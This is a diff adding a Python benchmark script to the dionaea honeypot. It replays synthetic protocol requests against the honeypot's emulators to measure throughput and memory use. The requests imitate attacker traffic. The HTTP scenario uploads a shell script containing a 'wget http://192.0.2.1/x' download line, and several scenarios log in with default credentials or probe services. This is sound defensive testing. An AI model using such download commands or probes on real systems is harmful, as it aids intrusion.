@@ -0,0 +1,532 @@
+#!/usr/bin/env python3
+# This file is part of the dionaea honeypot
+#
+# SPDX-FileCopyrightText: 2026 dionaea developers
+#
+# SPDX-License-Identifier: GPL-2.0-or-later
+
+"""
+Replay recorded requests against the protocol emulators and measure their throughput.
+
+The request byte streams are passed directly to handle_io_in() of a connection created like it is done by the core for
+an accepted client. No sockets and no libdionaea are required, the connection class is replaced by the stub in
+core_stub.py that captures the data passed to send(). Unconsumed data is kept and passed again together with the next
+request like the core does, the framing declared by a service (see dionaea.framing) is applied as well.
+
+For every scenario the requests per second, the latency percentiles of a single request, the peak memory allocated
+while processing a request and the number of memory blocks retained after a request are reported.
+
+The results can be stored as baseline and later runs are compared against it to make regressions visible. The results
+depend on the machine, the baseline is not part of the repository.
+
+Usage:
+    PYTHONPATH=modules/python python3 tests/benchmark/replay.py [-n REQUESTS] [-s SCENARIO ...]
+    PYTHONPATH=modules/python python3 tests/benchmark/replay.py --save-baseline
+    PYTHONPATH=modules/python python3 tests/benchmark/replay.py --check --threshold 15
+    PYTHONPATH=modules/python python3 tests/benchmark/replay.py -s smbd --dump smbd.trace
+
+A dump file written by a packet trace (see dionaea.trace) can be replayed with --dump, only the incoming records are
+used.
+"""
+
+import argparse
+import json
+import logging
+import os
+import platform
+import struct
+import sys
+import tempfile
+import time
+import traceback
+import tracemalloc
+import uuid
+
+import core_stub
+
+core_stub.install()
+
+from dionaea.http import httpd  # noqa: E402
+from dionaea.memcache import Memcache  # noqa: E402
+from dionaea.mqtt.include.packets import encode_remaining_length  # noqa: E402
+from dionaea.mqtt.mqtt import mqttd  # noqa: E402
+from dionaea.mssql.mssql import mssqld  # noqa: E402
+from dionaea.mysql.mysql import mysqld  # noqa: E402
+from dionaea.printer import Printerd  # noqa: E402
+from dionaea.sip import SipSession  # noqa: E402
+from dionaea.smb.smb import epmapper, smbd  # noqa: E402
+from dionaea.trace import DIRECTION_IN, read_dump  # noqa: E402
+
+from smb_trace import create_requests as create_smb_requests  # noqa: E402
+
+DEFAULT_BASELINE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "replay_baseline.json")
+
+#: Values compared with the baseline and if a higher value is better
+METRICS = (
+    ("requests_per_second", True),
+    ("latency_p50_us", False),
+    ("latency_p99_us", False),
+    ("alloc_bytes_per_request", False),
+)
+
+scenarios = {}
+
+
+#: Number of protocol packets in the requests of one session by scenario
+scenario_packets = {}
+
+
+def scenario(name, packets=None):
+    """
+    Register a scenario.
+
+    The decorated function is called with a working directory and must return a factory creating a new client
+    connection and the list of requests of one session. If a request contains several packets of the protocol, the
+    number of packets in all requests can be given to report the packets per second.
+    """
+    def wrapper(func):
+        scenarios[name] = func
+        if packets is not None:
+            scenario_packets[name] = packets
+        return func
+    return wrapper
+
+
+def child_factory(cls, service_config=None, *args, **kwargs):
+    """
+    Create a configured parent like the service loader and return a factory for the connections of accepted clients.
+
+    Like the core the connection of a client is created without arguments and gets the config of the parent.
+    """
+    parent = cls(*args, **kwargs)
+    if service_config is not None:
+        parent.apply_config(service_config)
+
+    def factory():
+        con = cls()
+        # Set by the core
+        con.transport = parent.transport
+        con.apply_parent_config(parent)
+        if hasattr(con, "handle_origin"):
+            con.handle_origin(parent)
+        con.handle_established()
+        return con
+    return factory
+
+
+@scenario("smbd")
+def smbd_scenario(workdir):
+    return child_factory(smbd, {}), create_smb_requests()
+
+
+def dcerpc(ptype, call_id, body):
+    header = struct.pack("<BBBB4sHHI", 5, 0, ptype, 0x03, b"\x10\0\0\0", 16 + len(body), 0, call_id)
+    return header + body
+
+
+@scenario("epmapper")
+def epmapper_scenario(workdir):
+    # IOXIDResolver ServerAlive2 as sent by DCOM scanners
+    ioxid = uuid.UUID("99fcfec4-5260-101b-bbcb-00aa0021347a").bytes_le
+    ndr = uuid.UUID("8a885d04-1ceb-11c9-9fe8-08002b104860").bytes_le
+    context = struct.pack("<HBx", 0, 1) + ioxid + struct.pack("<HH", 0, 0) + ndr + struct.pack("<I", 2)
+    bind = dcerpc(11, 1, struct.pack("<HHIB3x", 4280, 4280, 0, 1) + context)
+    server_alive2 = dcerpc(0, 2, struct.pack("<IHH", 0, 0, 5))
+    return child_factory(epmapper, {}), [bind, server_alive2]
+
+
+def mysql_packet(number, payload):
+    return struct.pack("<I", len(payload))[:3] + struct.pack("B", number) + payload
+
+
+@scenario("mysqld")
+def mysqld_scenario(workdir):
+    login = mysql_packet(
+        1,
+        struct.pack("<IIB23x", 0x000aa285, 16777216, 33) + b"root\0" + b"\x14" + b"\x01" * 20 + b"\0"
+    )
+    requests = [
+        login,
+        mysql_packet(0, b"\x03show databases"),
+        mysql_packet(0, b"\x03show variables like 'version'"),
+        mysql_packet(0, b"\x03set names utf8"),
+    ]
+    return child_factory(mysqld, {"databases": {}}), requests
+
+
+def tds_packet(tds_type, payload):
+    return struct.pack(">BBHHBB", tds_type, 0x01, 8 + len(payload), 0, 1, 0) + payload
+
+
+def tds_string(value):
+    return value.encode("utf-16-le")
+
+
+@scenario("mssqld")
+def mssqld_scenario(workdir):
+    prelogin = struct.pack(">BHHBHHBHHBHHB", 0, 26, 6, 1, 32, 1, 2, 33, 1, 3, 34, 4, 0xff)
+    prelogin += struct.pack(">IH", 0x09000000, 0) + b"\x02" + b"\0" + struct.pack("<I", 0x1000)
+
+    # HostName, UserName, Password, AppName, ServerName, Unused, CltIntName, Language and Database
+    values = ["client", "sa", "secret", "app", "127.0.0.1", None, "ODBC", "", ""]
+    offset = 86
+    pointers = b""
+    variable = b""
+    for value in values:
+        if value is None:
+            pointers += struct.pack("<HH", 0, 0)
+            continue
+        data = tds_string(value)
+        if value == "secret":
+            data = bytes((((b << 4) & 0xf0) | (b >> 4)) ^ 0xa5 for b in data)
+        pointers += struct.pack("<HH", offset, len(value))
+        offset += len(data)
+        variable += data
+    login = struct.pack("<IIIII", 0x71000001, 4096, 7, 1234, 0) + b"\xe0\x03\x00\x00" + struct.pack("<II", 0, 0x409)
+    login += pointers + b"\0" * 6 + struct.pack("<HHHH", offset, 0, offset, 0)
+    login = struct.pack("<I", 4 + len(login) + len(variable)) + login + variable
+
+    batch = tds_string("select @@version")
+    return child_factory(mssqld, {}), [
+        tds_packet(0x12, prelogin),
+        tds_packet(0x10, login),
+        tds_packet(0x01, batch),
+    ]
+
+
+@scenario("httpd")
+def httpd_scenario(workdir):
+    root = os.path.join(workdir, "www")
+    os.makedirs(root, exist_ok=True)
+    with open(os.path.join(root, "index.html"), "w") as fp:
+        fp.write("<html><body>It works!</body></html>\n")
+    with open(os.path.join(root, "data.bin"), "wb") as fp:
+        fp.write(os.urandom(8 * 1024))
+
+    body = b"user=admin&password=admin"
+    upload = (
+        b"--replay\r\nContent-Disposition: form-data; name=\"file\"; filename=\"x.sh\"\r\n\r\n"
+        b"#!/bin/sh\r\nwget http://192.0.2.1/x\r\n--replay--\r\n"
+    )
+    requests = [
+        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: replay\r\n\r\n",
+        b"GET /data.bin HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: replay\r\n\r\n",
+        b"GET /missing.php?id=1 HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: replay\r\n\r\n",
+        b"POST /login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
+        b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body,
+        b"POST /upload.php HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: multipart/form-data; boundary=replay\r\n"
+        b"Content-Length: " + str(len(upload)).encode() + b"\r\n\r\n" + upload,
+    ]
+    return child_factory(httpd, {"root": root}), requests
+
+
+@scenario("Memcache")
+def memcache_scenario(workdir):
+    requests = [
+        b"set foo 0 0 3\r\nbar\r\n",
+        b"get foo\r\n",
+        b"incr counter 1\r\n",
+        b"stats\r\n",
+    ]
+    return child_factory(Memcache, {}), requests
+
+
+def mqtt_string(value):
+    return struct.pack(">H", len(value)) + value
+
+
+def mqtt_packet(first, payload):
+    return bytes((first,)) + encode_remaining_length(len(payload)) + payload
+
+
+@scenario("mqttd")
+def mqttd_scenario(workdir):
+    connect = mqtt_packet(
+        0x10,
+        mqtt_string(b"MQTT") + struct.pack(">BBH", 4, 0xc2, 60)
+        + mqtt_string(b"replay") + mqtt_string(b"admin") + mqtt_string(b"admin")
+    )
+    publish = mqtt_packet(0x32, mqtt_string(b"sensors/temp") + struct.pack(">H", 1) + b"21.5")
+    subscribe = mqtt_packet(0x82, struct.pack(">H", 2) + mqtt_string(b"sensors/#") + b"\x00")
+    return child_factory(mqttd, {}), [connect, publish, subscribe]
+
+
+@scenario("mqttd-burst", packets=9)
+def mqttd_burst_scenario(workdir):
+    # IoT bots send all packets at once, the big PUBLISH needs a Remaining Length of two bytes and is split
+    connect = mqtt_packet(
+        0x10,
+        mqtt_string(b"MQTT") + struct.pack(">BBH", 4, 0xc2, 60)
+        + mqtt_string(b"bot") + mqtt_string(b"admin") + mqtt_string(b"admin")
+    )
+    subscribe = mqtt_packet(0x82, struct.pack(">H", 1) + mqtt_string(b"#") + b"\x00")
+    publish = mqtt_packet(0x30, mqtt_string(b"bots/cmd") + b"x" * 512)
+    publish_qos1 = mqtt_packet(0x32, mqtt_string(b"bots/status") + struct.pack(">H", 2) + b"online")
+    ping = mqtt_packet(0xc0, b"")
+    burst = connect + subscribe + publish_qos1 + publish + ping + publish_qos1
+    return child_factory(mqttd, {}), [burst[:-200], burst[-200:] + ping + ping]
+
+
+@scenario("Printerd")
+def printerd_scenario(workdir):
+    root = os.path.join(workdir, "printer")
+    os.makedirs(root, exist_ok=True)
+    with open(os.path.join(root, "test.txt"), "w") as fp:
+        fp.write("test\n")
+    uel = b"\x1b%-12345X"
+    requests = [
+        uel + b"@PJL INFO ID\r\n" + uel,
+        uel + b"@PJL INFO STATUS\r\n" + uel,
+        uel + b"@PJL FSDIRLIST NAME=\"0:/\" ENTRY=1 COUNT=65535\r\n" + uel,
+    ]
+    return child_factory(Printerd, {"root": root}), requests
+
+
+def sip_message(method, cseq, extra=b""):
+    return (
+        method + b" sip:100@127.0.0.1 SIP/2.0\r\n"
+        b"Via: SIP/2.0/UDP 127.0.0.2:5060;branch=z9hG4bK-replay-" + str(cseq).encode() + b"\r\n"
+        b"From: <sip:200@127.0.0.2>;tag=replay\r\n"
+        b"To: <sip:100@127.0.0.1>\r\n"
+        b"Call-ID: replay-" + str(cseq).encode() + b"@127.0.0.2\r\n"
+        b"CSeq: " + str(cseq).encode() + b" " + method + b"\r\n"
+        b"Contact: <sip:200@127.0.0.2:5060>\r\n"
+        b"Max-Forwards: 70\r\n"
+        b"User-Agent: replay\r\n" + extra +
+        b"Content-Length: 0\r\n\r\n"
+    )
+
+
+@scenario("SipSession")
+def sip_scenario(workdir):
+    # The connections of the clients open the default user database relative to the working directory
+    os.makedirs(os.path.join(workdir, "var/lib/dionaea/sip"), exist_ok=True)
+    config = {}
+    requests = [
+        sip_message(b"OPTIONS", 1, b"Accept: application/sdp\r\n"),
+        sip_message(b"REGISTER", 2, b"Expires: 3600\r\n"),
+    ]
+    return child_factory(SipSession, None, proto="udp", config=config), requests
+
+
+class Session(object):
+    """
+    Feed requests to a connection and keep the unconsumed data like the core does.
+    """
+    def __init__(self, factory):
+        self.con = factory()
+        self.buffer = b""
+        self.errors = 0
+        self.last_error = None
+
+    def feed(self, data):
+        data = self.buffer + data
+        size = self.con.io_in_deliverable(data)
+        if size == 0:
+            self.buffer = data
+            return
+        view = None
+        if self.con._io_in_view:
+            view = memoryview(data)[:size]
+        try:
+            consumed = self.con.handle_io_in(data[:size] if view is None else view)
+        except Exception:
+            # The binding logs the error and closes the connection
+            self.errors += 1
+            self.last_error = traceback.format_exc()
+            self.con.close()
+            consumed = size
+        finally:
+            if view is not None:
+                view.release()
+        if consumed is None:
+            consumed = size
+        self.buffer = data[consumed:]
+
+
+def iter_requests(factory, requests, count):
+    """
+    Yield the session and the request for the given number of requests, a new session is started after the last request.
+    """
+    session = None
+    for i in range(count):
+        index = i % len(requests)
+        if index == 0 or session.con.closed:
+            session = Session(factory)
+            core_stub.incidents.clear()
+        yield session, requests[index]
+        session.con.sent.clear()
+
+
+def percentile(values, p):
+    return values[min(len(values) - 1, int(len(values) * p / 100))]
+
+
+def verify(name, factory, requests):
+    """
+    Replay one session and return the number of requests without a response, raise an error if a request failed.
+    """
+    unanswered = 0
+    for session, data in iter_requests(factory, requests, len(requests)):
+        session.feed(data)
+        if session.errors:
+            raise RuntimeError("%s: request raised an error\n%s" % (name, session.last_error))
+        if not session.con.sent:
+            unanswered += 1
+    return unanswered
+
+
+def measure(factory, requests, count, alloc_count):
+    latencies = []
+    clock = time.perf_counter_ns
+    for session, data in iter_requests(factory, requests, count):
+        start = clock()
+        session.feed(data)
+        latencies.append(clock() - start)
+    latencies.sort()
+    total = sum(latencies)
+
+    alloc_bytes = 0
+    retained_blocks = 0
+    tracemalloc.start()
+    for session, data in iter_requests(factory, requests, alloc_count):
+        tracemalloc.reset_peak()
+        current = tracemalloc.get_traced_memory()[0]
+        blocks = sys.getallocatedblocks()
+        session.feed(data)
+        alloc_bytes += tracemalloc.get_traced_memory()[1] - current
+        retained_blocks += sys.getallocatedblocks() - blocks
+    tracemalloc.stop()
+
+    return {
+        "requests": count,
+        "requests_per_second": round(count / (total / 1e9), 1),
+        "latency_p50_us": round(percentile(latencies, 50) / 1e3, 2),
+        "latency_p90_us": round(percentile(latencies, 90) / 1e3, 2),
+        "latency_p99_us": round(percentile(latencies, 99) / 1e3, 2),
+        "alloc_bytes_per_request": round(alloc_bytes / alloc_count),
+        "retained_blocks_per_request": round(retained_blocks / alloc_count, 2),
+    }
+
+
+def compare(result, baseline, threshold):
+    """
+    Compare the result with the baseline and return the regressed metrics.
+    """
+    changes = []
+    regressions = []
+    for metric, higher_is_better in METRICS:
+        old = baseline.get(metric)
+        if not old:
+            continue
+        change = (result[metric] - old) * 100.0 / old
+        changes.append("%s %+.1f%%" % (metric, change))
+        if (-change if higher_is_better else change) > threshold:
+            regressions.append(metric)
+    return changes, regressions
+
+
+def load_dump(filename):
+    with open(filename, "rb") as fp:
+        return [data for _, direction, data in read_dump(fp) if direction == DIRECTION_IN]
+
+
+class DiscardHandler(logging.Handler):
+    """
+    Format all records like dionaea does before passing them to the core but discard them.
+    """
+    def emit(self, record):
+        self.format(record)
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Replay requests against the protocol emulators")
+    parser.add_argument("-n", dest="count", type=int, default=5000, help="Number of requests per scenario")
+    parser.add_argument("--alloc-requests", type=int, default=500, help="Number of requests to count allocations")
+    parser.add_argument("-s", dest="scenarios", action="append", choices=sorted(scenarios), help="Scenarios to run")
+    parser.add_argument("--dump", help="Replay the incoming records of a packet trace dump file")
+    parser.add_argument("--baseline", default=DEFAULT_BASELINE, help="Baseline file")
+    parser.add_argument("--save-baseline", action="store_true", help="Store the results in the baseline file")
+    parser.add_argument("--threshold", type=float, default=10.0, help="Allowed regression in percent")
+    parser.add_argument("--check", action="store_true", help="Exit with an error if a metric has regressed")
+    args = parser.parse_args()
+
+    logging.getLogger().addHandler(DiscardHandler())
+    logging.getLogger().setLevel(logging.DEBUG)
+
+    names = args.scenarios or sorted(scenarios, key=str.lower)
+    dump_requests = None
+    if args.dump:
+        if len(names) != 1:
+            parser.error("--dump requires exactly one scenario")
+        if args.save_baseline:
+            parser.error("--save-baseline can not be used with --dump")
+        dump_requests = load_dump(args.dump)
+
+    baseline_filename = os.path.abspath(args.baseline)
+    baseline = {}
+    if os.path.exists(baseline_filename):
+        with open(baseline_filename) as fp:
+            baseline = json.load(fp).get("scenarios", {})
+
+    results = {}
+    regressed = False
+    cwd = os.getcwd()
+    with tempfile.TemporaryDirectory(prefix="dionaea-replay-") as workdir:
+        # Some services open files relative to the working directory
+        os.chdir(workdir)
+        try:
+            for name in names:
+                factory, requests = scenarios[name](workdir)
+                if dump_requests is not None:
+                    requests = dump_requests
+                unanswered = verify(name, factory, requests)
+
+                result = measure(factory, requests, args.count, args.alloc_requests)
+                packets = scenario_packets.get(name)
+                if packets is not None and dump_requests is None:
+                    result["packets_per_second"] = round(result["requests_per_second"] * packets / len(requests), 1)
+                results[name] = result
+                print(
+                    "%-12s %10.1f req/s  p50 %8.2fus  p90 %8.2fus  p99 %8.2fus  %8d B/req  %6.2f blocks/req%s%s" % (
+                        name,
+                        result["requests_per_second"],
+                        result["latency_p50_us"],
+                        result["latency_p90_us"],
+                        result["latency_p99_us"],
+                        result["alloc_bytes_per_request"],
+                        result["retained_blocks_per_request"],
+                        "  %10.1f pkt/s" % result["packets_per_second"] if "packets_per_second" in result else "",
+                        "  (%d unanswered)" % unanswered if unanswered else "",
+                    )
+                )
+                if name in baseline and dump_requests is None:
+                    changes, regressions = compare(result, baseline[name], args.threshold)
+                    print("%-12s %s%s" % ("", ", ".join(changes), "  REGRESSION" if regressions else ""))
+                    regressed = regressed or bool(regressions)
+        finally:
+            os.chdir(cwd)
+
+    if args.save_baseline:
+        # Keep the baseline of scenarios not run this time
+        baseline.update(results)
+        with open(baseline_filename, "w") as fp:
+            json.dump(
+                {
+                    "python": platform.python_version(),
+                    "machine": platform.machine(),
+                    "scenarios": baseline,
+                },
+                fp,
+                indent=2,
+                sort_keys=True,
+            )
+            fp.write("\n")
+        print("Baseline written to %s" % baseline_filename)
+
+    if args.check and regressed:
+        sys.exit(1)
+
+
+if __name__ == "__main__":
+    main()